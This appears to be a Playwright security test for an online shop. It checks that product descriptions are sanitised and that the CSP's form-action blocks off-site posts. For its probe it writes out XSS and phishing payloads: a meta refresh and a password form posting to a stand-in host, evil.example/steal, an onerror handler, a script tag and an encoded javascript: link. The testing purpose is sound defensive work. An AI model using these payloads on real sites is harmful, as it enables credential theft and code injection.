import { expect, test, type Page } from "@playwright/test";
import { api, jsDisabled, open } from "./helpers.ts";

/**
 * Editor html in a real browser (ADR 0041): a product description saved through the admin API
 * with the outside probe's payload (a meta refresh to another site, a password form posting
 * off-site, an image whose error handler runs code, a script) shows on the product page as its
 * formatting only: the browser stays on the page, asks nothing of the other site, shows no form
 * and runs no handler, with JavaScript on and off. And the CSP's form-action keeps any form
 * that got into a page from posting off-site.
 */

const EVIL = "evil.example";
const PROBE =
  `<meta http-equiv="refresh" content="0;url=http://${EVIL}/phish">` +
  `<form action="https://${EVIL}/steal" method="post" data-testid="probe-form"><label>Password <input type="password" name="password"></label><button>Log in</button></form>` +
  `<img src="x"/onerror="document.title='pwned';window.__pwned=1"><script>window.__pwned=2</script>` +
  `<h2>Care</h2><p>Wash <strong>cold</strong>, <a href="java&#x73;cript:window.__pwned=3">details</a>, <a href="/sale">sale</a>.</p>`;

/** Every request and main-frame navigation the page makes to the other site. */
function watchForeign(page: Page): string[] {
  const seen: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes(EVIL)) seen.push(request.url());
  });
  page.on("framenavigated", (frame) => {
    if (frame === page.mainFrame() && frame.url().includes(EVIL)) seen.push(frame.url());
  });
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return seen;
}

let path = "";

test.beforeAll(async ({ request }, testInfo) => {
  const owner = await api<{ accessToken: string }>(request, "login", { action: "login", username: "0551234567", password: "Owner-2026" });
  const categories = await api<{ id: number; children: { id: number }[] }[]>(request, "categories");
  const category = categories.find((c) => c.children.length > 0)?.children[0]?.id ?? categories[0]!.id;
  const s = `${testInfo.project.name}-${Date.now().toString(36)}`;
  const texts = (lang: string) => ({ title: `Probe shirt ${lang} ${s}`, slug: `probe-shirt-${lang}-${s}`, desc: PROBE });
  await api(
    request,
    "admin/products/create",
    { az: texts("az"), en: texts("en"), ru: texts("ru"), categoryIds: [category], price: "19.90", status: "active", variants: [{ size: "M", stock: 1, price: "" }] },
    owner.accessToken,
  );
  path = `/probe-shirt-en-${s}`;
});

test("a description with the probe's payload shows its formatting and nothing else", async ({ page }, testInfo) => {
  const foreign = watchForeign(page);
  const response = await open(page, path);
  expect(response?.status()).toBe(200);
  const description = page.locator(".rich-text").first();
  await expect(description.getByRole("heading", { name: "Care" })).toBeVisible();
  await expect(description.getByRole("link", { name: "sale" })).toHaveAttribute("href", "/sale");
  // the javascript: link keeps its text and loses its address
  await expect(description.locator("a", { hasText: "details" })).toHaveCount(1);
  expect(await description.locator("a", { hasText: "details" }).getAttribute("href")).toBeNull();
  // the refresh would have fired at once: give it time anyway
  await page.waitForTimeout(1500);
  expect(new URL(page.url()).pathname).toBe(path);
  expect(foreign).toEqual([]);
  await expect(page.getByTestId("probe-form")).toHaveCount(0);
  await expect(page.locator(`form[action*="${EVIL}"]`)).toHaveCount(0);
  await expect(description.locator("form, input, button, img, script")).toHaveCount(0);
  await expect(page.locator('meta[http-equiv="refresh" i]')).toHaveCount(0);
  expect(await page.title()).not.toBe("pwned");
  const body = await (await page.request.get(path)).text();
  expect(body).not.toMatch(/http-equiv="refresh"|onerror=|<script>window\.__pwned|javascript:/i);
  if (!jsDisabled(testInfo)) expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
});

test("the CSP lets a form post to the shop only (form-action)", async ({ page }, testInfo) => {
  test.skip(jsDisabled(testInfo), "the form is put into the page by a script");
  const foreign = watchForeign(page);
  await open(page, path);
  const csp = (await page.request.get(path)).headers()["content-security-policy"] ?? "";
  expect(csp).toMatch(/(^|;)\s*form-action 'self'( |;|$)/);
  const violation = await page.evaluate(async (evil) => {
    const blocked = new Promise<string>((resolve) => document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true }));
    const form = document.createElement("form");
    form.method = "post";
    form.action = `https://${evil}/steal`;
    document.body.append(form);
    form.submit();
    return Promise.race([blocked, new Promise<string>((resolve) => setTimeout(() => resolve("none"), 3000))]);
  }, EVIL);
  expect(violation).toBe("form-action");
  expect(new URL(page.url()).pathname).toBe(path);
  expect(foreign).toEqual([]);
});
